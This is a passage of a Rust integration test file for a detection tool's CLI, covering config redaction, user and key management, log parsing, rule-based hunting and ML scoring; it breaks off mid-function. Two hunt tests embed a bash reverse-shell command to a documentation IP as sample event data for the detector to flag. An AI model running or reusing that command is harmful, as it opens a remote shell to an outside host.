//! The `vigil` binary end to end: configuration checks, user management, version.

#[path = "cli/hunt.rs"]
mod hunt;
#[path = "cli/rules.rs"]
mod rules;
#[path = "cli/scaleout.rs"]
mod scaleout;
#[path = "cli/shutdown.rs"]
mod shutdown;
#[path = "cli/webhooks.rs"]
mod webhooks;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// A user's filter and correlation naming built-in rules by id.
const USER_RULES_ON_BUILTIN: &str =
    include_str!("../../vigil-detect/tests/fixtures/user_rules_on_builtin.yml");

struct Dir(PathBuf);
impl Drop for Dir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn tmp() -> Dir {
    let d = std::env::temp_dir().join(format!("vigil-cli-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&d).unwrap();
    Dir(d)
}

/// Runs vigil in `dir` with a clean environment (no VIGIL_*/legacy variables leak in).
fn vigil(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_vigil"));
    c.current_dir(dir)
        .args(args)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default());
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().expect("run vigil")
}

fn text(o: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

#[test]
fn version_prints_the_package_version() {
    let d = tmp();
    let o = vigil(&d.0, &["version"], &[]);
    assert!(o.status.success());
    assert_eq!(
        text(&o).0.trim(),
        format!("vigil {}", env!("CARGO_PKG_VERSION"))
    );
}

#[test]
fn config_check_redacts_secrets_and_names_unknown_keys() {
    let d = tmp();
    let o = vigil(
        &d.0,
        &["config", "check"],
        &[
            ("THEHIVE_API_KEY", "hive-secret-value"),
            ("VIGIL_DATABASE__URL", "postgres://u:hunter2@db/vigil"),
            ("VIGIL_REDIS__URL", "redis://:redis-pass-123@cache:6379/0"),
            ("API_PORT", "9100"),
        ],
    );
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert!(out.contains("port = 9100"), "{out}");
    assert!(out.contains("postgres://u:***@db/vigil"), "{out}");
    assert!(out.contains("redis://:***@cache:6379/0"), "{out}");
    assert!(
        !out.contains("hive-secret-value")
            && !out.contains("hunter2")
            && !out.contains("redis-pass-123"),
        "{out}"
    );

    std::fs::write(d.0.join("vigil.toml"), "[server]\nprot = 1\n").unwrap();
    let o = vigil(&d.0, &["config", "check"], &[]);
    assert!(!o.status.success());
    let err = text(&o).1;
    assert!(err.contains("vigil.toml") && err.contains("prot"), "{err}");

    std::fs::remove_file(d.0.join("vigil.toml")).unwrap();
    let o = vigil(&d.0, &["config", "check"], &[("VIGIL_SERVER__PROT", "1")]);
    assert!(!o.status.success());
    assert!(text(&o).1.contains("VIGIL_SERVER__PROT"));
}

/// Regression: `VIGIL_SYSLOG__TCP` (an optional key, absent by default) was refused as an
/// unknown configuration key.
#[test]
fn config_check_accepts_optional_keys_from_the_environment() {
    let d = tmp();
    let o = vigil(
        &d.0,
        &["config", "check"],
        &[
            ("VIGIL_SYSLOG__TCP", "127.0.0.1:5514"),
            ("VIGIL_SYSLOG__TLS_CERT", "/etc/vigil/cert.pem"),
        ],
    );
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert!(out.contains("tcp = \"127.0.0.1:5514\""), "{out}");
    assert!(out.contains("tls_cert = \"/etc/vigil/cert.pem\""), "{out}");
}

#[test]
fn user_lifecycle_from_the_command_line() {
    let d = tmp();
    assert!(vigil(&d.0, &["migrate"], &[]).status.success());
    let pw = [("VIGIL_USER_PASSWORD", "a long enough passphrase")];
    let o = vigil(
        &d.0,
        &[
            "user", "create", "alice", "--role", "viewer", "--org", "acme",
        ],
        &pw,
    );
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert!(
        out.contains("created user 'alice' (role viewer, org 'acme'"),
        "{out}"
    );
    assert!(
        !out.contains("password (shown once)"),
        "a given password must not be printed"
    );

    // Generated password: printed once.
    let o = vigil(&d.0, &["user", "create", "bob"], &[]);
    assert!(text(&o).0.contains("password (shown once): "));

    let o = vigil(&d.0, &["user", "create", "bob"], &pw);
    assert!(!o.status.success());
    assert!(text(&o).1.contains("username 'bob' is taken"));

    let o = vigil(&d.0, &["user", "create", "x y"], &pw);
    assert!(!o.status.success() && text(&o).1.contains("username"));
    let o = vigil(
        &d.0,
        &["user", "create", "weak"],
        &[("VIGIL_USER_PASSWORD", "short")],
    );
    assert!(!o.status.success() && text(&o).1.contains("VIGIL_USER_PASSWORD"));

    assert!(
        vigil(&d.0, &["user", "set-role", "alice", "admin"], &[])
            .status
            .success()
    );
    let o = vigil(&d.0, &["user", "set-role", "alice", "boss"], &[]);
    assert!(!o.status.success() && text(&o).1.contains("boss"));
    let o = vigil(&d.0, &["user", "set-role", "nobody", "admin"], &[]);
    assert!(!o.status.success() && text(&o).1.contains("no user named 'nobody'"));
    let o = vigil(&d.0, &["user", "reset-password", "alice"], &[]);
    assert!(text(&o).0.contains("sessions have ended"));

    let o = vigil(&d.0, &["user", "list"], &[]);
    let out = text(&o).0;
    let rows: Vec<Vec<&str>> = out
        .lines()
        .skip(1)
        .map(|l| l.split_whitespace().collect())
        .collect();
    assert_eq!(rows.len(), 2, "{out}");
    assert_eq!(&rows[0][..4], ["alice", "admin", "acme", "active"]);
    assert_eq!(&rows[1][..4], ["bob", "analyst", "default", "active"]);

    assert!(vigil(&d.0, &["migrate"], &[]).status.success());
    assert!(d.0.join("vigil-data/vigil.db").exists());
}

/// Asserts every row has a cell starting where each header column starts (ASCII rows).
#[track_caller]
fn assert_columns_line_up(out: &str) {
    let mut lines = out.lines();
    let header = lines.next().expect("a header row");
    let starts: Vec<usize> = header
        .char_indices()
        .filter(|&(i, c)| c != ' ' && (i == 0 || header.as_bytes()[i - 1] == b' '))
        .map(|(i, _)| i)
        // "LAST LOGIN": a header of two words is one column.
        .filter(|&i| !header[..i].ends_with("LAST "))
        .collect();
    for line in lines {
        for &at in &starts[1..] {
            let b = line.as_bytes();
            assert!(
                b.len() > at && b[at - 1] == b' ' && b[at] != b' ',
                "column at {at} does not line up:\n{out}"
            );
        }
    }
}

/// Regression: tables were padded to fixed widths, so a long user name, organization, key
/// name or a wide (CJK) character pushed the rest of its row out of line.
#[test]
fn cli_tables_are_aligned_to_their_widest_cell() {
    let d = tmp();
    assert!(vigil(&d.0, &["migrate"], &[]).status.success());
    let pw = [("VIGIL_USER_PASSWORD", "a long enough passphrase")];
    for args in [
        &["user", "create", "bob", "--org", "東京支社"][..],
        &[
            "user",
            "create",
            "operations.team-lead@example.org",
            "--role",
            "admin",
        ],
    ] {
        let o = vigil(&d.0, args, &pw);
        assert!(o.status.success(), "{:?}", text(&o));
    }
    let o = vigil(&d.0, &["user", "list"], &[]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let golden = include_str!("golden/user_list.txt");
    assert_eq!(out, golden, "\n{out}");

    for name in ["short", "a-key-name-much-longer-than-twenty-characters"] {
        assert!(
            vigil(&d.0, &["api-key", "create", name], &[])
                .status
                .success()
        );
    }
    let (out, _) = text(&vigil(&d.0, &["api-key", "list"], &[]));
    assert_eq!(out.lines().count(), 3, "{out}");
    assert_columns_line_up(&out);
    for desc in [
        "rack 4",
        "a much longer description of where this token goes",
    ] {
        let o = vigil(&d.0, &["agent-token", "create", "--description", desc], &[]);
        assert!(o.status.success(), "{:?}", text(&o));
    }
    let (out, _) = text(&vigil(&d.0, &["agent-token", "list"], &[]));
    assert_eq!(out.lines().count(), 3, "{out}");
    assert_columns_line_up(&out);
}

/// Regression: `vigil serve` wrote ANSI colour codes into its logs when they went to a
/// pipe or file (`log.format = "text"`); NO_COLOR was not honoured.
#[test]
fn no_colour_codes_when_output_is_not_a_terminal() {
    use std::io::BufRead;
    let d = tmp();
    let mut child = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .current_dir(&d.0)
        .arg("serve")
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("VIGIL_SERVER__PORT", "0")
        .env("VIGIL_LOG__FORMAT", "text")
        .env("VIGIL_INGEST__LOCAL_AGENT", "false")
        .env("VIGIL_ADMIN_PASSWORD", "a long enough passphrase")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Read until the server says it listens (its log lines come before that line).
    let mut out = String::new();
    let mut reader = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    while reader.read_line(&mut line).unwrap() > 0 {
        out.push_str(&line);
        if line.starts_with("Vigil listening") {
            break;
        }
        line.clear();
    }
    let _ = child.kill();
    let o = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(out.contains("Vigil listening"), "{out}\n{err}");
    assert!(out.contains("INFO"), "text logs expected: {out}");
    assert!(!out.contains("\x1b["), "ANSI codes on stdout: {out:?}");
    assert!(!err.contains("\x1b["), "ANSI codes on stderr: {err:?}");

    // `vigil hunt` prints its table without colour to a pipe.
    std::fs::write(
        d.0.join("events.jsonl"),
        "{\"event.category\":\"process\",\"event.type\":\"start\",\"host.os.type\":\"linux\",         \"process.executable\":\"/usr/bin/bash\",         \"process.command_line\":\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"}\n",
    )
    .unwrap();
    let o = vigil(&d.0, &["hunt", "events.jsonl"], &[]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "{out}{err}");
    assert!(
        !out.contains("\x1b[") && !err.contains("\x1b["),
        "{out:?}{err:?}"
    );
}

#[test]
fn hunt_prints_a_table_and_json_lines_and_skips_bad_input() {
    let d = tmp();
    let rules = d.0.join("rules");
    let logs = d.0.join("logs");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::create_dir_all(&logs).unwrap();
    std::fs::write(
        rules.join("whoami.yml"),
        "title: Whoami Run\nid: 0b4a7c1e-0000-4000-8000-000000000001\nlevel: high\n\
         logsource: {product: windows, category: process_creation}\n\
         detection:\n  sel:\n    Image|endswith: '\\whoami.exe'\n  condition: sel\n",
    )
    .unwrap();
    std::fs::write(
        rules.join("ssh.yml"),
        "title: SSH Failure\nid: 0b4a7c1e-0000-4000-8000-000000000002\nlevel: low\n\
         logsource: {product: linux, service: sshd}\n\
         detection:\n  kw: ['Failed password']\n  condition: kw\n",
    )
    .unwrap();
    std::fs::write(rules.join("broken.yml"), "title: [").unwrap();
    let event = |time: &str, image: &str| {
        serde_json::json!({"Event": {
            "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                       "Computer": "ws1", "TimeCreated": {"#attributes": {"SystemTime": time}}},
            "EventData": {"Image": image, "CommandLine": format!("{image} /all")}
        }})
    };
    std::fs::write(
        logs.join("b.json"),
        serde_json::to_string(&vec![
            event("2024-05-02T10:00:00Z", "C:\\Windows\\System32\\whoami.exe"),
            event("2024-05-02T11:00:00Z", "C:\\Windows\\notepad.exe"),
        ])
        .unwrap(),
    )
    .unwrap();
    std::fs::write(
        logs.join("a.jsonl"),
        format!(
            "{}\nnot json\n",
            event("2024-05-01T09:00:00Z", "C:\\Tools\\WHOAMI.EXE")
        ),
    )
    .unwrap();

    let args = [
        "hunt",
        "--no-builtin",
        "--rules",
        "rules",
        "--pipeline",
        "windows",
        "logs",
    ];
    let o = vigil(&d.0, &args, &[]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "findings: exit 1; {err}");
    let rows: Vec<&str> = out.lines().filter(|l| l.starts_with("2024-")).collect();
    assert_eq!(rows.len(), 2, "{out}");
    assert!(rows[0].starts_with("2024-05-01T09:00:00Z"), "{out}");
    assert!(rows[0].contains("Whoami Run"), "{out}");
    assert!(rows[0].contains("a.jsonl:1"), "{out}");
    assert!(rows[0].contains("high"), "{out}");
    assert!(
        rows[0].contains("0b4a7c1e-0000-4000-8000-000000000001"),
        "{out}"
    );
    assert!(rows[0].contains("Computer=ws1"), "{out}");
    assert!(
        rows[0].contains("CommandLine=C:\\Tools\\WHOAMI.EXE /all"),
        "{out}"
    );
    assert!(rows[1].contains("b.json:1"), "{out}");
    assert!(out.contains("files: 2"), "{out}");
    assert!(out.contains("events: 3, matches: 2"), "{out}");
    assert!(out.contains("by level: high 2"), "{out}");
    assert!(out.contains("2 loaded, 1 rejected"), "{out}");
    assert!(err.contains("a.jsonl:2"), "{err}");
    assert!(
        err.contains("broken.yml") || err.contains("rules rejected"),
        "{err}"
    );

    // JSON lines, one per match, with the whole event; nothing but them on stdout.
    let o = vigil(&d.0, &[&args[..], &["--json"]].concat(), &[]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "findings: exit 1; {err}");
    let hits: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(hits.len(), 2, "{out}");
    assert_eq!(hits[0]["rule"]["title"], "Whoami Run");
    assert_eq!(hits[0]["level"], "high");
    assert_eq!(hits[0]["record"], 1);
    assert_eq!(
        hits[1]["event"]["Event"]["EventData"]["Image"],
        "C:\\Windows\\System32\\whoami.exe"
    );
    assert!(err.contains("matches: 2"), "{err}");

    // Text lines with keyword rules, and the level filter.
    std::fs::write(
        logs.join("auth.log"),
        "May  1 09:00:00 web1 sshd[42]: Failed password for root from 10.0.0.5\n",
    )
    .unwrap();
    let o = vigil(
        &d.0,
        &["hunt", "-r", "rules", "--json", "logs/auth.log"],
        &[],
    );
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "findings: exit 1; {err}");
    assert!(out.contains("SSH Failure"), "{out}");
    let o = vigil(
        &d.0,
        &["hunt", "-r", "rules", "--min-level", "medium", "logs"],
        &[],
    );
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "findings: exit 1; {err}");
    assert!(
        !out.contains("SSH Failure") && out.contains("matches: 2"),
        "{out}"
    );

    // Usage errors: no rules, no inputs.
    let o = vigil(&d.0, &["hunt", "-r", "logs", "logs"], &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o).1.contains("no rules loaded"), "{}", text(&o).1);
    let o = vigil(&d.0, &["hunt", "-r", "rules", "nothing/*.evtx"], &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o).1.contains("no input files"), "{}", text(&o).1);
}

#[test]
fn hunt_defaults_to_the_built_in_rule_pack() {
    let d = tmp();
    let logs = d.0.join("events.jsonl");
    let base = r#""event.category":"process","event.type":"start","host.os.type":"linux","process.executable":"/usr/bin/bash""#;
    std::fs::write(
        &logs,
        format!(
            "{{{base},\"process.command_line\":\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"}}\n\
             {{{base},\"process.command_line\":\"ls -l /tmp\"}}\n"
        ),
    )
    .unwrap();
    let o = vigil(&d.0, &["hunt", "--json", logs.to_str().unwrap()], &[]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "findings: exit 1; {err}");
    let hits: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(hits.len(), 1, "{out}");
    assert!(
        out.contains("afeee667-1cd9-4912-893b-16bfbae9b8d5"),
        "{out}"
    );
}

/// Admin commands say which database they use and never make a new empty one: run from a
/// directory without one (or pointed at a missing file) they fail instead of listing an
/// empty table of a fresh `./vigil-data`; only `migrate` (and `serve`) create it.
#[test]
fn admin_commands_name_their_database_and_never_create_one() {
    let d = tmp();
    let data = d.0.join("vigil-data");
    let db = data.join("vigil.db");
    for args in [
        &["user", "list"][..],
        &["user", "create", "alice"],
        &["user", "set-role", "alice", "admin"],
        &["api-key", "list"],
        &["api-key", "create", "promtail"],
        &["agent-token", "list"],
        &["agent-token", "create"],
        &["analyze"],
    ] {
        let o = vigil(
            &d.0,
            args,
            &[("VIGIL_USER_PASSWORD", "a long enough passphrase")],
        );
        let (out, err) = text(&o);
        assert!(!o.status.success(), "{args:?} succeeded: {out}");
        assert!(
            err.contains(&format!("database: sqlite://{}", db.display())),
            "{args:?} does not say which database: {err}"
        );
        assert!(err.contains("does not exist"), "{args:?}: {err}");
        assert!(err.contains("vigil migrate"), "{args:?}: {err}");
        assert!(!data.exists(), "{args:?} created {}", data.display());
    }
    // Pointed at another place, the same: the named file is not created either.
    let elsewhere = d.0.join("elsewhere.db");
    let url = format!("sqlite://{}", elsewhere.display());
    let o = vigil(&d.0, &["user", "list"], &[("VIGIL_DATABASE__URL", &url)]);
    assert!(!o.status.success());
    assert!(text(&o).1.contains(&format!("database: {url}")));
    assert!(!elsewhere.exists());

    let o = vigil(&d.0, &["migrate"], &[]);
    assert!(o.status.success(), "{:?}", text(&o));
    assert!(db.exists());
    let o = vigil(&d.0, &["user", "list"], &[]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert!(out.starts_with("USERNAME"), "{out}");
    assert!(
        err.contains(&format!("database: sqlite://{}", db.display())),
        "{err}"
    );
}

#[test]
fn agent_tokens_and_api_keys_are_printed_once_and_listed_without_secrets() {
    let d = tmp();
    assert!(vigil(&d.0, &["migrate"], &[]).status.success());
    // `user create` makes the default organization.
    let o = vigil(
        &d.0,
        &["user", "create", "root-admin", "--role", "admin"],
        &[],
    );
    assert!(o.status.success(), "{:?}", text(&o));
    let o = vigil(
        &d.0,
        &["agent-token", "create", "--description", "rack 4"],
        &[],
    );
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let token = out
        .lines()
        .find(|l| l.starts_with("vge_"))
        .expect("token line")
        .to_owned();
    let o = vigil(&d.0, &["agent-token", "list"], &[]);
    let (out, _) = text(&o);
    assert!(out.contains("rack 4") && out.contains("unused") && !out.contains(&token));
    let o = vigil(
        &d.0,
        &["agent-token", "create", "--expires-in-hours", "0"],
        &[],
    );
    assert!(!o.status.success());
    assert!(text(&o).1.contains("expires_in_hours"));

    let o = vigil(&d.0, &["api-key", "create", "promtail"], &[]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let key = out
        .lines()
        .find(|l| l.starts_with("vgk_"))
        .expect("key line")
        .to_owned();
    let o = vigil(&d.0, &["api-key", "list"], &[]);
    let (out, _) = text(&o);
    assert!(out.contains("promtail") && out.contains("ingest") && !out.contains(&key));
    let o = vigil(&d.0, &["api-key", "create", "x", "--scopes", "root"], &[]);
    assert!(!o.status.success());
    let o = vigil(&d.0, &["api-key", "create", "x", "--org", "nope"], &[]);
    assert!(text(&o).1.contains("no organization named 'nope'"));
}

#[test]
fn parse_prints_one_event_per_line_and_reports_bad_lines() {
    let d = tmp();
    let log = d.0.join("auth.log");
    std::fs::write(
        &log,
        "Nov 23 10:00:01 bastion-1 sshd[812]: Failed password for root from 203.0.113.9 port 52144 ssh2\n\
         \n\
         Nov 23 10:00:02 bastion-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id\n",
    )
    .unwrap();
    let o = vigil(&d.0, &["parse", "auth.log"], &[]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let events: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(events.len(), 2, "{out}");
    assert_eq!(events[0]["event"]["dataset"], "auth");
    assert_eq!(events[0]["source"]["ip"], "203.0.113.9");
    assert_eq!(events[0]["log"]["file"]["path"], "auth.log");
    assert_eq!(events[1]["user"]["effective"]["name"], "root");

    // A forced format names the lines that are not in it, and still exits 0.
    let access = d.0.join("access.log");
    std::fs::write(
        &access,
        "203.0.113.9 - - [23/Nov/2026:10:00:00 +0000] \"GET /a?b=c HTTP/1.1\" 200 5 \"-\" \"curl/8.0\"\n\
         this is not an access log line\n",
    )
    .unwrap();
    let o = vigil(&d.0, &["parse", "--format", "nginx", "access.log"], &[]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert_eq!(out.lines().count(), 1, "{out}");
    let event: serde_json::Value = serde_json::from_str(out.lines().next().unwrap()).unwrap();
    assert_eq!(event["url"]["query"], "b=c");
    assert!(
        err.contains("access.log: line 2: not a nginx access log line"),
        "{err}"
    );

    let o = vigil(&d.0, &["parse", "--format", "csv", "access.log"], &[]);
    assert!(!o.status.success());
    assert!(text(&o).1.contains("unknown format \"csv\""));
    let o = vigil(&d.0, &["parse", "missing.log"], &[]);
    assert!(!o.status.success());
    assert!(text(&o).1.contains("cannot open missing.log"));
}

#[test]
fn parse_reads_standard_input() {
    use std::io::Write;
    let d = tmp();
    let mut child = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .current_dir(&d.0)
        .args(["parse", "--host", "collector", "-"])
        .env_clear()
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"type=EXECVE msg=audit(1700000000.123:456): argc=2 a0=\"id\" a1=2D61\n{\"msg\":\"json\"}\n")
        .unwrap();
    let o = child.wait_with_output().unwrap();
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let events: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(events[0]["event"]["dataset"], "auditd");
    assert_eq!(events[0]["a1"], "-a");
    assert_eq!(events[0]["host"]["name"], "collector");
    assert_eq!(events[1]["msg"], "json");
}

fn ml_fixture() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../vigil-ml/tests/fixtures/data.csv")
}

/// `vigil ml score --model MODEL --csv CSV`.
fn ml_score(dir: &Path, model: &Path, csv: &str) -> Output {
    vigil(
        dir,
        &[
            "ml",
            "score",
            "--model",
            model.to_str().unwrap(),
            "--csv",
            csv,
        ],
        &[],
    )
}

fn metric(stderr: &str, name: &str) -> f64 {
    stderr
        .lines()
        .find_map(|l| l.strip_prefix(name)?.trim().parse().ok())
        .unwrap_or_else(|| panic!("no {name} in {stderr}"))
}

#[test]
fn ml_fit_then_score_a_labelled_csv() {
    let dir = tmp();
    let csv = ml_fixture();
    let csv = csv.to_str().unwrap();
    let model = dir.0.join("model.bin");
    let fit = |out: &Path| {
        vigil(
            &dir.0,
            &[
                "ml",
                "fit",
                "--csv",
                csv,
                "--label-column",
                "label",
                "--out",
                out.to_str().unwrap(),
                "--seed",
                "3",
            ],
            &[],
        )
    };
    let o = fit(&model);
    let (_, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert!(
        err.contains("trained 100 trees on 1000 rows x 5 features"),
        "{err}"
    );
    assert!(metric(&err, "roc_auc") > 0.95, "{err}");
    // Same seed, same model bytes.
    let again = dir.0.join("again.bin");
    assert!(fit(&again).status.success());
    assert_eq!(
        std::fs::read(&model).unwrap(),
        std::fs::read(&again).unwrap()
    );

    let o = ml_score(&dir.0, &model, csv);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], "row,score,anomalous");
    assert_eq!(lines.len(), 1001);
    let flagged = lines[1..].iter().filter(|l| l.ends_with(",true")).count();
    assert!(flagged > 0 && flagged < 200, "{flagged}");
    for l in &lines[1..] {
        let s: f64 = l.split(',').nth(1).unwrap().parse().unwrap();
        assert!(s > 0.0 && s <= 1.0);
    }
    assert!(
        metric(&err, "roc_auc") > 0.95 && metric(&err, "average_precision") > 0.5,
        "{err}"
    );

    // A JSON model scores the same.
    let json = dir.0.join("model.json");
    assert!(fit(&json).status.success());
    let o2 = ml_score(&dir.0, &json, csv);
    assert_eq!(text(&o2).0, out);
}

/// `vigil ml score` scores in blocks on `-j` threads: every thread count, and columns in
/// another order than the model's, print the very floats the forest gives one row at a time.
#[test]
fn ml_score_in_batches_equals_one_row_at_a_time_on_any_thread_count() {
    let dir = tmp();
    let csv = ml_fixture();
    let model = dir.0.join("m.bin");
    let o = vigil(
        &dir.0,
        &[
            "ml",
            "fit",
            "--csv",
            csv.to_str().unwrap(),
            "--out",
            model.to_str().unwrap(),
            "-j",
            "1",
        ],
        &[],
    );
    assert!(o.status.success(), "{}", text(&o).1);
    let m = vigil_ml::Model::from_bytes(&std::fs::read(&model).unwrap()).unwrap();
    let data = vigil_ml::csv::Dataset::read(&csv, None).unwrap();
    let want: Vec<String> = data
        .x
        .rows()
        .enumerate()
        .map(|(i, r)| {
            let s = m.forest.anomaly_score(r).unwrap();
            format!("{},{s},{}", i + 1, s > m.threshold())
        })
        .collect();
    // The same file with its columns reversed (label first).
    let text_in = std::fs::read_to_string(&csv).unwrap();
    let reversed: String = text_in
        .lines()
        .map(|l| l.split(',').rev().collect::<Vec<_>>().join(",") + "\n")
        .collect();
    let rev = dir.0.join("reversed.csv");
    std::fs::write(&rev, reversed).unwrap();
    for (file, threads) in [(&csv, "1"), (&csv, "3"), (&rev, "1"), (&rev, "2")] {
        let o = vigil(
            &dir.0,
            &[
                "ml",
                "score",
                "--model",
                model.to_str().unwrap(),
                "--csv",
                file.to_str().unwrap(),
                "-j",
                threads,
            ],
            &[],
        );
        let (out, err) = text(&o);
        assert!(o.status.success(), "{err}");
        let got: Vec<&str> = out.lines().skip(1).collect();
        assert_eq!(got, want, "{} -j {threads}", file.display());
    }
    // The same model whatever the thread count.
    let again = dir.0.join("again.bin");
    let o = vigil(
        &dir.0,
        &[
            "ml",
            "fit",
            "--csv",
            csv.to_str().unwrap(),
            "--out",
            again.to_str().unwrap(),
            "-j",
            "3",
        ],
        &[],
    );
    assert!(o.status.success());
    assert_eq!(
        std::fs::read(&model).unwrap(),
        std::fs::read(&again).unwrap()
    );
    let o = vigil(
        &dir.0,
        &["ml", "score", "--model", "x", "--csv", "y", "-j", "0"],
        &[],
    );
    assert!(!o.status.success() && text(&o).1.contains("at least 1"));
}

/// Regression: `ml fit` without `--label-column` trained on the `label` column, and
/// `ml score` (which leaves `label` out by default) then refused the file.
#[test]
fn ml_fit_without_label_column_leaves_label_out_and_score_accepts_the_file() {
    let dir = tmp();
    let csv = ml_fixture();
    let csv = csv.to_str().unwrap();
    let model = dir.0.join("m.json");
    let o = vigil(
        &dir.0,
        &["ml", "fit", "--csv", csv, "--out", model.to_str().unwrap()],
        &[],
    );
    let (_, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert!(
        err.contains("on 1000 rows x 5 features"),
        "label must not be a feature: {err}"
    );
    assert!(metric(&err, "roc_auc") > 0.95, "{err}");
    let written: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&model).unwrap()).unwrap();
    assert!(
        !written.to_string().contains("\"label\""),
        "the model names no 'label' feature"
    );
    let o = ml_score(&dir.0, &model, csv);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert_eq!(out.lines().count(), 1001);
    // The CLI's default threshold is the server's (`[ml] contamination = 0.02`): 2% of the
    // training rows are over it, and --help says so.
    let flagged = out.lines().filter(|l| l.ends_with(",true")).count();
    assert!((15..=25).contains(&flagged), "{flagged} of 1000 flagged");
    let help = text(&vigil(&dir.0, &["ml", "fit", "--help"], &[])).0;
    assert!(
        help.contains("[default: 0.02]") && help.contains("[ml] contamination"),
        "{help}"
    );
}

#[test]
fn ml_bad_input_is_a_clear_error() {
    let dir = tmp();
    let bad = dir.0.join("bad.csv");
    std::fs::write(&bad, "a,b\n1,2\n3,oops\n").unwrap();
    let model = dir.0.join("m.bin");
    let o = vigil(
        &dir.0,
        &[
            "ml",
            "fit",
            "--csv",
            bad.to_str().unwrap(),
            "--out",
            model.to_str().unwrap(),
        ],
        &[],
    );
    let (_, err) = text(&o);
    assert!(!o.status.success());
    assert!(err.contains("line 3") && err.contains("'oops'"), "{err}");
    assert!(!model.exists());

    let good = dir.0.join("good.csv");
    std::fs::write(&good, "a,b\n1,2\n3,4\n5,6\n").unwrap();
    assert!(
        vigil(
            &dir.0,
            &[
                "ml",
                "fit",
                "--csv",
                good.to_str().unwrap(),
                "--out",
                model.to_str().unwrap()
            ],
            &[],
        )
        .status
        .success()
    );
    let other = dir.0.join("other.csv");
    std::fs::write(&other, "a,c\n1,2\n").unwrap();
    let o = vigil(
        &dir.0,
        &[
            "ml",
            "score",
            "--model",
            model.to_str().unwrap(),
            "--csv",
            other.to_str().unwrap(),
        ],
        &[],
    );
    assert!(!o.status.success());
    assert!(text(&o).1.contains("no column 'b'"), "{}", text(&o).1);
    std::fs::write(&model, b"VGML\x01\x00garbage").unwrap();
    let o = vigil(
        &dir.0,
        &[
            "ml",
            "score",
            "--model",
            model.to_str().unwrap(),
            "--csv",
            good.to_str().unwrap(),
        ],
        &[],
    );
    assert!(!o.status.success());
    assert!(text(&o).1.contains("invalid model"), "{}", text(&o).1);
    let o = vigil(
        &dir.0,
        &[
            "ml",
            "fit",
            "--csv",
            good.to_str().unwrap(),
            "--out",
            "x",
            "--contamination",
            "0.9",
        ],
        &[],
    );
    assert!(!o.status.success());
    assert!(text(&o).1.contains("contamination"), "{}", text(&o).1);
}

#[test]
fn analyze_prints_the_deterministic_analysis_and_the_models() {
    let d = tmp();
    let data = d.0.join("data");
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async {
        let store = vigil_store::connect(&format!("sqlite://{}/vigil.db", data.display()), 2)
            .await
            .unwrap();
        store.migrate().await.unwrap();
        let org = store.create_org("default").await.unwrap().id;
        let now = vigil_core::now();
        let events = (0..7)
            .map(|i| {
                let ts = now - chrono::Duration::seconds(60 - i);
                let outcome = if i < 6 { "failure" } else { "success" };
                vigil_store::NewEvent {
                    timestamp: ts,
                    host: Some("web-1".into()),
                    dataset: Some("auth".into()),
                    message: Some("sshd".into()),
